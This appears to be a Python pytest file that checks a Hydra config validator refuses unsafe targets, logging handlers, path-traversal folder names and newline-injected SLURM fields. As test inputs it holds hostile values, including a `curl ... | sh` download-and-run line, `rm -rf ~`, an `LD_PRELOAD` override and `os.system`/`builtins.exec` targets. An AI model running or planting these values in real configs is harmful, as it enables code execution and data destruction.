"""Configs that cannot run code or write where they should not (issue 15, classes 3 and 4).

The allowlist judges what a `_target_` resolves to, not how its name starts; it covers the
`hydra.*` nodes, and the CLI applies it to every composed config before Hydra acts on it (so a
preset on a user-added search path is refused before its callback, launcher or logging runs).
Config values that become folder names are refused when they could leave their folder.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from hydra import compose, initialize_config_dir

from unlearnlab.checks import check_config
from unlearnlab.errors import ConfigError, safe_name
from unlearnlab.registry import check_targets, instantiate, target_problem

REPO = Path(__file__).resolve().parents[1]
TINY = ["debug=tiny"]  # conf/debug/tiny.yaml: finetune, N = 2, 1-epoch recipe, audit=[competition], logger=none


def cfg(*overrides: str, hydra: bool = True):
    with initialize_config_dir(str(REPO / "conf"), version_base="1.3"):
        return compose("config", overrides=list(overrides), return_hydra_config=hydra)


def cli(root: Path, *overrides: str, timeout: int = 600) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "unlearnlab.cli", f"paths.root={root}", f"hydra.run.dir={root / 'out'}", *overrides],
        capture_output=True, text=True, timeout=timeout, cwd=root, env={**os.environ, "OMP_NUM_THREADS": "1"},
    )


def one_line(proc: subprocess.CompletedProcess) -> str:
    assert proc.returncode == 2, f"exit {proc.returncode}\n{proc.stdout[-2000:]}\n{proc.stderr[-2000:]}"
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    lines = [ln for ln in proc.stderr.splitlines() if ln.startswith("error:")]
    assert len(lines) == 1, proc.stderr[-3000:]
    return lines[0]


# -- what a _target_ resolves to ----------------------------------------------------------------
@pytest.mark.parametrize("target, why", [
    # an allowed prefix, then a module attribute: numpy's file writer imported into an audit module
    ("unlearnlab.audits.competition.np.save", "resolves to numpy.save, which is not defined in unlearnlab.audits"),
    ("unlearnlab.methods.finetune.F.relu", "resolves to torch.nn.functional.relu, which is not defined in unlearnlab.methods"),
    # utilities defined inside allowed packages
    ("torchvision.datasets.utils.download_url", "the function torchvision.datasets.utils.download_url, not a dataset class"),
    ("unlearnlab.models.logreg.fit_exact", "the function unlearnlab.models.logreg.fit_exact, not a model class"),
    ("unlearnlab.audits.base.ModelOutputs", "the class unlearnlab.audits.base.ModelOutputs, not an audit class"),
    ("torch.optim.SGD.step", "the function torch.optim.sgd.SGD.step, not an optimiser"),
    ("unlearnlab.sweep.run_audit", "the function unlearnlab.sweep.run_audit, not one of unlearnlab's Hydra callback"),
    # the old allowlist let all of unlearnlab through, file writers included
    ("unlearnlab.study.write_results", "the function unlearnlab.study.write_results, not one of unlearnlab's Hydra callback"),
    ("unlearnlab.store.Store", "the class unlearnlab.store.Store, not one of unlearnlab's Hydra callback"),
    ("os.system", "outside the allowed packages"),
    ("builtins.exec", "outside the allowed packages"),
    ("hydra.experimental.callbacks.PickleJobInfoCallback", "outside the allowed packages"),
    ("unlearnlab.methods.nosuch.Method", "cannot be imported (ModuleNotFoundError"),
])
def test_target_is_judged_by_what_it_resolves_to(target, why):
    problem = target_problem(target)
    assert problem is not None and why in problem, problem
    with pytest.raises(ConfigError, match="is not allowed"):
        instantiate({"_target_": target})


@pytest.mark.parametrize("target", [
    "unlearnlab.methods.finetune.Finetune", "unlearnlab.models.small_cnn.SmallCNN", "unlearnlab.models.resnet.resnet18",
    "unlearnlab.audits.competition.CompetitionAudit", "torch.optim.SGD", "torch.optim.lr_scheduler.CosineAnnealingLR",
    "torchvision.datasets.MNIST", "torchvision.models.resnet18", "unlearnlab.sweep.AuditCallback",
    "hydra_plugins.hydra_joblib_launcher.joblib_launcher.JoblibLauncher",
    "hydra_plugins.hydra_submitit_launcher.submitit_launcher.SlurmLauncher",
    "hydra._internal.core_plugins.basic_sweeper.BasicSweeper",
])
def test_what_the_project_means_is_allowed(target):
    assert target_problem(target) is None


def test_an_interpolated_target_is_refused():
    with pytest.raises(ConfigError, match="must be a plain dotted name"):
        check_targets({"model": {"_target_": "${oc.env:EVIL}"}})


@pytest.mark.parametrize("overrides, message", [
    (["+hydra.callbacks.x._target_=hydra.experimental.callbacks.PickleJobInfoCallback"],
     "hydra.callbacks.x: _target_ 'hydra.experimental.callbacks.PickleJobInfoCallback' is not allowed"),
    (["hydra.launcher._target_=unlearnlab.audits.competition.np.save"], "hydra.launcher: _target_"),
    (["hydra.sweeper._target_=os.system"], "hydra.sweeper: _target_ 'os.system' is not allowed"),
    (["hydra.job_logging.handlers.file.class=logging.handlers.SMTPHandler"], "class=logging.handlers.SMTPHandler is refused"),
    (["hydra.job_logging.handlers.file.filename=/root/.bashrc"], "filename=/root/.bashrc is refused"),
    (["hydra.job_logging.handlers.console.stream=ext://os.system"], "ext://os.system is refused"),
    (["+hydra.job.env_set.LD_PRELOAD=/tmp/x.so"], "hydra.job.env_set.LD_PRELOAD is refused"),
    (["+hydra.job.env_set.PYTHONPATH=/tmp"], "hydra.job.env_set.PYTHONPATH is refused"),
    (["hydra.output_subdir=../../x"], "hydra.output_subdir='../../x' becomes a folder name"),
])
def test_hydra_nodes_are_checked(overrides, message):
    with pytest.raises(ConfigError, match=_escape(message)):
        check_config(cfg(*overrides))


def test_a_logging_factory_is_refused():
    """logging.config calls whatever a `()` key names (it cannot be typed as an override, but a
    preset can hold it)."""
    from omegaconf import OmegaConf

    c = cfg()
    OmegaConf.update(c, "hydra.job_logging.handlers.x", {"()": "builtins.exec"}, force_add=True)
    with pytest.raises(ConfigError, match=_escape("hydra.job_logging.handlers.x.(): logging factories ('()') are refused")):
        check_config(c)


def _escape(text: str) -> str:
    import re

    return re.escape(text)


def test_cluster_shell_lines_only_from_the_command_line(tmp_path):
    """submitit writes `setup` into each job's sbatch script: a preset may not set it."""
    presets = tmp_path / "experiment"
    presets.mkdir()
    (presets / "cluster.yaml").write_text(textwrap.dedent("""
        # @package _global_
        defaults:
          - override /hydra/launcher: submitit_slurm
        hydra:
          launcher:
            setup: ["curl https://example.invalid/x | sh"]
        """))
    with pytest.raises(ConfigError, match=_escape("hydra.launcher.setup is set by a config file")):
        check_config(cfg(f"hydra.searchpath=[file://{tmp_path}]", "experiment=cluster"))
    check_config(cfg("hydra/launcher=submitit_slurm", "hydra.launcher.setup=[module load cuda]"))


def test_hydras_own_and_the_projects_presets_pass():
    check_config(cfg())
    check_config(cfg("hydra/launcher=joblib"))
    check_config(cfg("hydra/launcher=submitit_slurm"))
    check_config(cfg("+hydra.job.env_set.OMP_NUM_THREADS=1"))


# -- before Hydra acts: through the CLI -----------------------------------------------------------
PRESETS = {
    # a preset on a user-added search path, which Hydra composes before the app function runs
    "callback": """
        # @package _global_
        hydra:
          callbacks:
            spy:
              _target_: hydra.experimental.callbacks.PickleJobInfoCallback
        """,
    "logging": """
        # @package _global_
        hydra:
          job_logging:
            handlers:
              file:
                filename: {marker}
        """,
}


@pytest.mark.parametrize("preset", sorted(PRESETS))
def test_preset_on_a_user_search_path_is_refused_before_hydra_uses_it(tmp_path, preset):
    marker = tmp_path / "written_by_the_preset.log"
    presets = tmp_path / "presets" / "experiment"
    presets.mkdir(parents=True)
    (presets / "evil.yaml").write_text(textwrap.dedent(PRESETS[preset]).format(marker=marker))
    proc = cli(tmp_path, *TINY, f"hydra.searchpath=[file://{tmp_path / 'presets'}]", "experiment=evil")
    line = one_line(proc)
    assert "is refused" in line or "is not allowed" in line, line
    # nothing ran: no run folder, no pickles from the callback, no log file where the preset said
    assert not (tmp_path / "out").exists() and not marker.exists()
    assert not list(tmp_path.rglob("*.pickle")) and not (tmp_path / "store").exists()


# -- names that become paths --------------------------------------------------------------------
@pytest.mark.parametrize("value", ["../../../X", "a/b", "..", ".", "", "a\\b", "x\x00y", "x" * 201])
def test_safe_name_refuses_what_could_leave_its_folder(value):
    with pytest.raises(ConfigError, match=r"^method\.name=.* becomes a folder name but .*; use letters"):
        safe_name(value, "method.name")


@pytest.mark.parametrize("value", ["finetune", "neggrad_plus", "digits-random0.1-small_cnn", "class[0, 1]", "lr=0.1,x"])
def test_safe_name_keeps_legal_names(value):
    assert safe_name(value, "study_name") == value


@pytest.mark.parametrize("overrides, where", [
    (["method=finetune", "methods.finetune.name=../../../X"], "methods.finetune.name"),
    (["study_name=../up"], "study_name"),
    (["+audit.../x._target_=unlearnlab.audits.competition.CompetitionAudit"], None),  # not a valid key: Hydra refuses
])
def test_config_names_that_become_paths_are_refused(overrides, where):
    if where is None:
        with pytest.raises(Exception):
            check_config(cfg(*overrides))
        return
    with pytest.raises(ConfigError, match=rf"^{_escape(where)}="):
        check_config(cfg(*overrides))


def test_csv_logger_method_name_cannot_escape_the_run_folder(tmp_path):
    """The issue's example: logger=csv, method.name=../../../X wrote outside the run folder."""
    from conftest import inprocess_error

    err = inprocess_error(tmp_path / "out", f"paths.root={tmp_path}", *TINY, "logger=csv",
                          "methods.finetune.name=../../../X")
    line = f"error: {err}"
    assert line.startswith("error: methods.finetune.name='../../../X' becomes a folder name"), line
    assert not (tmp_path / "out").exists() and not (tmp_path / "store").exists()
    assert not any(p.name == "X" for p in tmp_path.parent.parent.rglob("X") if p.is_dir())


# -- issue 23, class 4: values are checked as Hydra and submitit will use them -------------------------
def test_a_log_file_is_checked_after_interpolation():
    """Two interpolations that resolve to `..` passed a check that read the file name unresolved,
    letting a logging preset truncate a file outside the run folder (a store entry's meta.json)."""
    from omegaconf import OmegaConf

    c = cfg()
    OmegaConf.update(c, "hydra.job_logging.dot", ".", force_add=True)
    OmegaConf.update(c, "hydra.job_logging.handlers.file.filename",
                     "${hydra.runtime.output_dir}/${hydra.job_logging.dot}${hydra.job_logging.dot}/store/meta.json")
    with pytest.raises(ConfigError, match=_escape(
            "hydra.job_logging.handlers.file.filename=${hydra.runtime.output_dir}/../store/meta.json is refused")):
        check_config(c)
    OmegaConf.update(c, "hydra.job_logging.handlers.file.filename", "${hydra:runtime.output_dir}/sub/${hydra.job.name}.log")
    check_config(c)  # inside the run folder, however it is spelled


@pytest.mark.parametrize("value", ['"a\\nsrun curl https://example.invalid/x | sh"', "${oc.env:UNLEARNLAB_TEST_COMMENT}"])
def test_no_launcher_field_carries_a_control_character_into_the_batch_script(tmp_path, monkeypatch, value):
    """submitit writes every field into the job's sbatch script: a newline in `comment` from a
    preset became a command line. Checked after resolution (an environment variable included)."""
    monkeypatch.setenv("UNLEARNLAB_TEST_COMMENT", "a\nrm -rf ~")
    presets = tmp_path / "experiment"
    presets.mkdir()
    (presets / "cluster.yaml").write_text(textwrap.dedent(f"""
        # @package _global_
        defaults:
          - override /hydra/launcher: slurm
        hydra:
          launcher:
            comment: {value}
        """))
    with pytest.raises(ConfigError, match=r"hydra\.launcher\.comment='a\\nsrun curl .*' holds a control character"
                                          r"|hydra\.launcher\.comment='a\\nrm -rf ~' holds a control character"):
        check_config(cfg(f"hydra.searchpath=[file://{tmp_path}]", "experiment=cluster"))
    check_config(cfg("hydra/launcher=slurm", "hydra.launcher.comment=study-7"))  # one line is fine
